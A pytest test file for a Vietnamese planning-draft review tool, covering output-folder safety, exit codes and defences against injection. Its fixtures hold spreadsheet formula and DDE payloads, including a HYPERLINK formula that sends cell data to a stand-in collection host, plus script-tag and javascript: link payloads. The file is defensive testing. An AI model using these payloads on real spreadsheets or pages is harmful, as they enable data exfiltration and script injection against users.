"""Issue 12: output folders never mix or destroy, exit codes scripts can trust, no formula or HTML injection,
a readable memo for a draft with hundreds of findings."""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from pipeline.apps.cli import main
from planreview_testing.synthetic import clean_spec, write_draft

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_DOCX = ROOT / "samples" / "de-an-cds-dong-hai.docx"
SAMPLE_TXT = ROOT / "samples" / "de-an-cds-bac-ha.txt"
FORMULA = '=HYPERLINK("http://thu-thap.example/?d="&A1,"Xem chi tiết")'
DDE = "@SUM(1+9)*cmd /C calc Phòng Tư pháp"  # a pipe table cannot hold the '|' of a DDE payload
PLAIN_EQ = "=1+2 Phòng Tư pháp"
HTML_TASK = ('Xây dựng <script>alert("x")</script> cổng <img src=x onerror=alert(1)> tại '
             '[trang dịch vụ công](javascript:alert(document.cookie)) của xã')
SHARED = ("=2+3 Ủy ban nhân dân xã chịu trách nhiệm tổ chức triển khai, theo dõi, đôn đốc các cơ quan đơn vị thực "
          "hiện đề án chuyển đổi số trên địa bàn")


def _run(*args: str, timeout: float = 300, **kwargs) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, "-m", "pipeline.apps.cli", *args], capture_output=True, text=True,
                          cwd=ROOT, env=env, timeout=timeout, **kwargs)


def hostile_txt(path: Path, district: str = "Hòa Bình", blank_owners: bool = True) -> Path:
    """A plain-text draft (pipe tables, like a copy from Word) with 60 tasks lacking an owner, cells that look
    like spreadsheet formulas, raw HTML and a javascript: link."""
    write_draft(clean_spec(district=district, extra_tasks=60), path)
    text = path.read_text(encoding="utf-8")
    if blank_owners:
        text = re.sub(r"^(\| \d+ \| Nhiệm vụ bổ sung[^|]*\|)[^|]*\|", r"\1  |", text, flags=re.M)
    lines = text.splitlines()
    task_rows = [i for i, line in enumerate(lines) if line.startswith("| ") and "Nhiệm vụ bổ sung" in line]
    for i, payload in zip(task_rows, (FORMULA, DDE, PLAIN_EQ, HTML_TASK)):
        cells = lines[i].split("|")
        cells[2] = f" {payload} "
        lines[i] = "|".join(cells)
    para = next(i for i, line in enumerate(lines) if line.startswith("Hiện nay,"))  # in the hiện trạng section
    lines.insert(para + 1, 'Xem thêm <script>alert("x")</script> và <img src=x onerror=alert(1)> tại '
                           '[cổng thông tin](javascript:alert(document.cookie)) của huyện trong năm nay.')
    lines.insert(para + 2, SHARED + ".")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# --------------------------------------------------------------------------- output folders


def test_second_draft_into_same_folder_is_refused_unless_overwrite(tmp_path):
    out = tmp_path / "out"
    assert main(["review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus"]) == 0
    memo_a = (out / "memo.md").read_bytes()
    proc = _run("review", str(SAMPLE_TXT), "-o", str(out), "--no-corpus")
    assert proc.returncode == 2 and "--overwrite" in proc.stderr and "de-an-cds-dong-hai.docx" in proc.stderr
    assert (out / "memo.md").read_bytes() == memo_a  # A's results untouched
    assert main(["review", str(SAMPLE_TXT), "-o", str(out), "--no-corpus", "--overwrite"]) == 0
    names = {p.name for p in out.iterdir() if not p.name.startswith(".")}
    assert names == {"memo.md", "memo.html", "memo.docx", "findings.json", "tasks.csv", "tasks.xlsx",
                     "draft.snapshot.json"}
    assert json.loads((out / "findings.json").read_text(encoding="utf-8"))["document"]["path"].endswith(".txt")
    # reviewing the same draft again needs no --overwrite
    assert main(["review", str(SAMPLE_TXT), "-o", str(out), "--no-corpus"]) == 0


def test_the_users_own_files_are_never_replaced_without_overwrite(tmp_path):
    """A folder without planreview's marker holding the council's own memo.md and annotated copy: exit 2 naming
    them, both untouched; --overwrite replaces them (the user said so)."""
    out = tmp_path / "hoi-dong"
    out.mkdir()
    (out / "memo.md").write_text("biên bản của hội đồng\n", encoding="utf-8")
    (out / "de-an-cds-dong-hai.annotated.docx").write_bytes(b"not ours")
    (out / "ghi-chu.txt").write_text("giữ nguyên", encoding="utf-8")
    proc = _run("review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus")
    assert proc.returncode == 2, proc.stderr
    assert "memo.md" in proc.stderr and "de-an-cds-dong-hai.annotated.docx" in proc.stderr
    assert "Traceback" not in proc.stderr and "--overwrite" in proc.stderr
    assert (out / "memo.md").read_text(encoding="utf-8") == "biên bản của hội đồng\n"
    assert (out / "de-an-cds-dong-hai.annotated.docx").read_bytes() == b"not ours"
    assert not (out / "findings.json").exists()
    assert main(["review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus", "--overwrite"]) == 0
    assert (out / "memo.md").read_text(encoding="utf-8").startswith("#")
    assert (out / "ghi-chu.txt").read_text(encoding="utf-8") == "giữ nguyên"  # not an output name: never touched
    assert main(["review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus"]) == 0  # now ours: replaced freely


def test_a_file_appearing_during_the_review_is_not_replaced(tmp_path):
    """The folder is checked again under its lock when the outputs are published."""
    from pipeline.core.errors import InputError
    from pipeline.render.outputs import check_output_folder, publish

    out = tmp_path / "out"
    check_output_folder(SAMPLE_TXT, out)  # a new folder: nothing to refuse yet

    def render(tmp: Path) -> dict[str, Path]:
        (out / "memo.md").write_text("typed meanwhile", encoding="utf-8")  # the user saves into it meanwhile
        (tmp / "memo.md").write_text("# ours", encoding="utf-8")
        return {"md": tmp / "memo.md"}

    with pytest.raises(InputError, match="memo.md"):
        publish(SAMPLE_TXT, out, render)
    assert (out / "memo.md").read_text(encoding="utf-8") == "typed meanwhile"
    assert publish(SAMPLE_TXT, out, render, overwrite=True)["md"].read_text(encoding="utf-8") == "# ours"


def test_two_reviews_started_at_once_into_one_new_folder_never_both_say_done(tmp_path):
    """Two drafts into one new folder at the same time: one wins, the other is refused (exit 2) — the folder
    holds exactly the winner's results, never a silent mix or a silent loss."""
    out = tmp_path / "out"
    procs = [subprocess.Popen([sys.executable, "-m", "pipeline.apps.cli", "review", str(d), "-o", str(out),
                               "--no-corpus"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                              cwd=ROOT) for d in (SAMPLE_DOCX, SAMPLE_TXT)]
    done = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    codes = sorted(code for code, _ in done)
    assert codes == [0, 2], done
    winner = (SAMPLE_DOCX, SAMPLE_TXT)[[code for code, _ in done].index(0)]
    marker = json.loads((out / ".planreview.json").read_text(encoding="utf-8"))
    findings = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    assert marker["draft"] == str(winner.resolve()) and findings["document"]["path"].endswith(winner.name)


def test_failing_writer_leaves_the_old_results_intact(tmp_path):
    out = tmp_path / "out"
    assert main(["review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "memo.md.j2").write_text("MẪU RIÊNG {{ title }}\n", encoding="utf-8")
    (templates / "memo.html.j2").write_text("{% if %}broken", encoding="utf-8")  # a council's broken template
    proc = _run("review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus", "--template-dir", str(templates))
    assert proc.returncode == 2, proc.stderr  # the user can act on it: exit 2 naming the file and line
    assert "memo.html.j2" in proc.stderr and "line 1" in proc.stderr and "Traceback" not in proc.stderr
    after = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert after == before  # memo.md is still the old one, nothing new appeared
    assert not [p for p in out.iterdir() if p.is_dir()]  # no temporary folder left


def test_the_draft_is_never_overwritten(tmp_path):
    draft = tmp_path / "memo.docx"
    shutil.copy(SAMPLE_DOCX, draft)
    data = draft.read_bytes()
    proc = _run("review", str(draft), "-o", str(tmp_path), "--no-corpus")
    assert proc.returncode == 2 and "overwrite the draft" in proc.stderr
    assert draft.read_bytes() == data


def test_batch_never_reads_its_own_outputs(tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    shutil.copy(SAMPLE_DOCX, drafts / "a.docx")
    shutil.copy(SAMPLE_TXT, drafts / "b.txt")
    counts = []
    for _ in range(3):
        main(["batch", str(drafts), "-o", str(drafts / "ket-qua"), "--no-corpus", "--no-progress", "-j", "1"])
        with (drafts / "ket-qua" / "summary.csv").open(encoding="utf-8-sig") as fh:
            counts.append(len(list(csv.DictReader(fh))))
    assert counts == [2, 2, 2]
    # an older batch written to another sub-folder is not read as drafts either
    main(["batch", str(drafts), "-o", str(drafts / "lan-2"), "--no-corpus", "--no-progress", "-j", "1"])
    with (drafts / "lan-2" / "summary.csv").open(encoding="utf-8-sig") as fh:
        assert len(list(csv.DictReader(fh))) == 2


# --------------------------------------------------------------------------- exit codes


def test_output_path_that_is_a_file_exits_2_before_the_review(tmp_path):
    target = tmp_path / "out"
    target.write_text("x", encoding="utf-8")
    start = time.perf_counter()
    proc = _run("review", str(SAMPLE_DOCX), "-o", str(target))
    elapsed = time.perf_counter() - start
    assert proc.returncode == 2 and "output path is a file" in proc.stderr and "Traceback" not in proc.stderr
    assert "Đã rà soát" not in proc.stdout and elapsed < 5


@pytest.fixture
def readonly_dir(tmp_path):
    """(folder, mocked): a folder no one may write into — chmod for a user, chattr +i for root; where root has
    no chattr (a container), ``mocked`` says the test must give the EACCES the kernel would (never a skip)."""
    folder = tmp_path / "chi-doc"
    folder.mkdir()
    if os.geteuid() != 0:
        folder.chmod(0o555)
        yield folder, False
        folder.chmod(0o755)
    elif shutil.which("chattr") and subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode == 0:
        yield folder, False
        subprocess.run(["chattr", "-i", str(folder)])
    else:
        yield folder, True


def test_read_only_output_folder_exits_2_before_the_review(readonly_dir, monkeypatch, capsys):
    folder, mocked = readonly_dir
    if not mocked:
        proc = _run("review", str(SAMPLE_DOCX), "-o", str(folder / "out"))
        assert proc.returncode == 2 and "not writable" in proc.stderr and "Đã rà soát" not in proc.stdout
        proc = _run("batch", str(ROOT / "samples"), "-o", str(folder))
        assert proc.returncode == 2 and "not writable" in proc.stderr
        return
    real = tempfile.TemporaryFile

    def refuse(*args, dir=None, **kwargs):  # what the kernel answers for a read-only folder
        if dir is not None and Path(dir) == folder:
            raise PermissionError(errno.EACCES, "Permission denied", str(dir))
        return real(*args, dir=dir, **kwargs)

    monkeypatch.setattr(tempfile, "TemporaryFile", refuse)
    assert main(["review", str(SAMPLE_DOCX), "-o", str(folder / "out")]) == 2
    out, err = capsys.readouterr()
    assert "not writable (Permission denied)" in err and "Không ghi được" in err and "Đã rà soát" not in out
    assert main(["batch", str(ROOT / "samples"), "-o", str(folder)]) == 2
    assert "not writable" in capsys.readouterr().err and not any(folder.iterdir())


def test_unreadable_draft_exits_2(tmp_path, monkeypatch, capsys):
    """A draft the user may not read: exit 2 with one bilingual line. The permission error is given by a mock
    (root, as CI runs, reads any file whatever its mode), so the test runs as any user."""
    draft = tmp_path / "a.docx"
    shutil.copy(SAMPLE_DOCX, draft)
    real_open = Path.open

    def refuse(self, *args, **kwargs):
        if self == draft:
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    assert main(["review", str(draft), "-o", str(tmp_path / "out")]) == 2
    out, err = capsys.readouterr()
    assert "Cannot read the draft (Permission denied)" in err and "Không đọc được tệp dự thảo" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()


def test_closed_pipe_is_not_a_traceback(tmp_path):
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    proc = subprocess.Popen([sys.executable, "-m", "pipeline.apps.cli", "review", str(SAMPLE_TXT), "-o",
                             str(tmp_path / "out"), "--no-corpus"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            cwd=ROOT, env=env)
    proc.stdout.close()  # like `| head -1` that has already exited
    err = proc.stderr.read().decode("utf-8")
    assert proc.wait(timeout=300) == 0
    assert "BrokenPipeError" not in err and "Traceback" not in err and "Exception ignored" not in err


def test_batch_with_failed_drafts_exits_4_and_says_how_many(tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    shutil.copy(SAMPLE_TXT, drafts / "tot.txt")
    (drafts / "hong.docx").write_bytes(b"PK\x03\x04 broken zip")
    proc = _run("batch", str(drafts), "-o", str(tmp_path / "out"), "--no-corpus", "--no-progress", "-j", "1")
    assert proc.returncode == 4 and "1/2" in proc.stderr and "failed" in proc.stderr


def test_corpus_add_with_a_missing_path_exits_2(tmp_path):
    store = tmp_path / "kho.sqlite"
    proc = _run("corpus", "add", str(SAMPLE_TXT), str(tmp_path / "khong-co.docx"), "--store", str(store),
                "--no-progress")
    assert proc.returncode == 2 and "khong-co.docx" in proc.stderr and "Traceback" not in proc.stderr


# --------------------------------------------------------------------------- injection and a readable memo


@pytest.fixture(scope="module")
def hostile_review(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    draft = hostile_txt(folder / "du-thao-hoa-binh.txt")
    out = folder / "out"
    assert main(["review", str(draft), "-o", str(out), "--no-corpus"]) == 0
    return out


def test_xlsx_stores_draft_text_as_strings_never_formulas(hostile_review):
    from openpyxl import load_workbook

    ws = load_workbook(hostile_review / "tasks.xlsx")["Nhiệm vụ"]
    column = [c for c in ws["D"][1:]]
    texts = {c.value: c.data_type for c in column}
    for payload in (FORMULA, DDE, PLAIN_EQ):
        assert texts.get(payload) == "s", payload
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_csv_cells_that_start_like_formulas_are_prefixed(hostile_review):
    with (hostile_review / "tasks.csv").open(encoding="utf-8-sig") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + FORMULA in cells and "'" + DDE in cells and "'" + PLAIN_EQ in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


def test_summary_and_shared_passages_csv_are_prefixed(tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    hostile_txt(drafts / "a.txt", "Hòa Bình", blank_owners=False)
    hostile_txt(drafts / "b.txt", "Tân Lập", blank_owners=False)
    from pipeline.apps.batch import BatchRow, write_summary

    main(["batch", str(drafts), "-o", str(tmp_path / "out"), "--no-corpus", "--no-progress", "-j", "1"])
    with (tmp_path / "out" / "shared_passages.csv").open(encoding="utf-8-sig") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert any(c.startswith("'=2+3 Ủy ban") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    write_summary([BatchRow(file="=cmd|' /C calc'!A0.docx", status="error", error="@SUM(1)")], tmp_path, [])
    with (tmp_path / "summary.csv").open(encoding="utf-8-sig") as fh:
        row = list(csv.reader(fh))[1]
    assert row[0] == "'=cmd|' /C calc'!A0.docx" and row[-1] == "'@SUM(1)"


def test_memo_md_escapes_raw_html_and_javascript_links(hostile_review):
    md = (hostile_review / "memo.md").read_text(encoding="utf-8")
    assert "\\<script>" in md  # the draft's words are kept, as text (a backslash escape, no entity)
    assert not re.search(r"(?<!\\)<(script|img)", md)
    assert "&lt;" not in md and "&gt;" not in md
    assert not re.search(r"\]\(\s*javascript:", md, re.I)


def test_memo_lists_at_most_50_per_rule_and_findings_json_keeps_all(hostile_review):
    findings = json.loads((hostile_review / "findings.json").read_text(encoding="utf-8"))["findings"]
    owner = [f for f in findings if f["rule_id"] == "TASK-01"]
    assert len(owner) >= 60
    md = (hostile_review / "memo.md").read_text(encoding="utf-8")
    assert f"và {len(owner) - 50} trường hợp khác" in md
    assert f"và {len(owner) - 50} trường hợp khác" in (hostile_review / "memo.html").read_text(encoding="utf-8")
    import docx

    text = "\n".join(p.text for p in docx.Document(str(hostile_review / "memo.docx")).paragraphs)
    assert f"và {len(owner) - 50} trường hợp khác" in text
    from openpyxl import load_workbook

    ws = load_workbook(hostile_review / "tasks.xlsx")["Nhiệm vụ"]
    assert ws.max_row - 1 == len(json.loads((hostile_review / "findings.json").read_text(encoding="utf-8"))["tasks"])


def test_fast_docx_rows_match_python_docx_markup():
    import docx

    from pipeline.render.docx_xml import append_table_rows as append_docx_rows

    rows = [["1", "Nhiệm vụ có\nhai dòng", None, ""], ["2", "  khoảng trắng giữ nguyên ", 3.5, "x"]]
    slow, fast = docx.Document(), docx.Document()
    a, b = slow.add_table(rows=1, cols=4), fast.add_table(rows=1, cols=4)
    for row in rows:
        for cell, value in zip(a.add_row().cells, row):
            cell.text = str(value if value is not None else "")
    append_docx_rows(b, rows)
    assert [[c.text for c in r.cells] for r in a.rows] == [[c.text for c in r.cells] for r in b.rows]
    assert [[c.width for c in r.cells] for r in a.rows] == [[c.width for c in r.cells] for r in b.rows]


# --------------------------------------------------------------------------- failures a user can act on


@pytest.mark.parametrize("option, value, says", [("--max-size-mb", "-1", "--max-size-mb"),
                                                 ("--max-size-mb", "0", "--max-size-mb"),
                                                 ("--plan-year", "1800", "--plan-year")])
def test_options_that_cannot_be_meant_are_exit_2(tmp_path, option, value, says):
    proc = _run("review", str(SAMPLE_TXT), "-o", str(tmp_path / "out"), "--no-corpus", option, value)
    assert proc.returncode == 2 and says in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists()


def test_disk_full_is_exit_2_and_leaves_nothing_half_written(tmp_path, monkeypatch, capsys):
    """ENOSPC while the outputs are written: a one-line message the user can act on, the folder as before."""
    import errno

    from pipeline.render import writers

    def full(*_args, **_kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "out" / "memo.docx"))

    monkeypatch.setattr(writers, "_write_all", full)
    assert main(["review", str(SAMPLE_TXT), "-o", str(tmp_path / "out"), "--no-corpus"]) == 2
    err = capsys.readouterr().err
    assert "Không đủ dung lượng" in err and "disk space" in err
    assert [p.name for p in (tmp_path / "out").iterdir()] == []


@pytest.mark.parametrize("real, named", [("de-an-cds-tay-son.pdf", "ke-hoach.docx"),
                                         ("de-an-cds-tay-son.pdf", "ke-hoach.txt"),
                                         ("de-an-cds-dong-hai.docx", "ke-hoach.pdf"),
                                         ("de-an-cds-dong-hai.docx", "ke-hoach.doc")])
def test_a_file_is_reviewed_by_what_it_is_with_a_note(tmp_path, real, named):
    """A PDF saved under a .docx name (or a .docx under .pdf/.doc) is read by its content, and the memo says so."""
    draft = tmp_path / named
    shutil.copy(ROOT / "samples" / real, draft)
    out = tmp_path / "out"
    assert main(["review", str(draft), "-o", str(out), "--no-corpus"]) == 0
    memo = (out / "memo.md").read_text(encoding="utf-8")
    kind = "PDF" if real.endswith(".pdf") else "Word .docx"
    assert f"tệp mang đuôi {Path(named).suffix} nhưng nội dung là {kind}" in memo
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))["document"]
    assert doc["format"] == ("pdf" if real.endswith(".pdf") else "docx") and doc["format_note"]
    assert len(json.loads((out / "findings.json").read_text(encoding="utf-8"))["findings"]) > 0


def test_a_file_of_an_unsupported_kind_is_refused_naming_what_it_is(tmp_path):
    import zipfile

    draft = tmp_path / "ke-hoach.txt"
    with zipfile.ZipFile(draft, "w") as z:  # an archive saved under a text name
        z.writestr("trang-1.txt", "không phải văn bản Word")
    proc = _run("review", str(draft), "-o", str(tmp_path / "out"), "--no-corpus")
    assert proc.returncode == 2 and ".zip" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr


@pytest.mark.parametrize("corpus", [["--no-corpus"], []])
def test_a_broken_word_template_is_reported_from_the_side_that_writes_memo_docx(tmp_path, corpus):
    """memo.docx is written by a side forked ahead (render/writers.py, fork_memo_docx_side): a council's Word
    template with a broken tag fails there, and the user still gets the one-line error naming it (exit 2),
    no results and no temporary folder."""
    import docx

    from pipeline.render.memo_docx import BUNDLED_TEMPLATE

    templates = tmp_path / "mau"
    templates.mkdir()
    council = docx.Document(str(BUNDLED_TEMPLATE))
    council.paragraphs[0].insert_paragraph_before("HỘI ĐỒNG PHẢN BIỆN {% if %}")
    council.save(str(templates / "memo-template.docx"))
    out = tmp_path / "out"
    proc = _run("review", str(SAMPLE_TXT), "-o", str(out), "--template-dir", str(templates), *corpus)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and ("mẫu" in proc.stderr.lower() or "template" in proc.stderr.lower())
    assert not out.exists() or not [p for p in out.iterdir()]
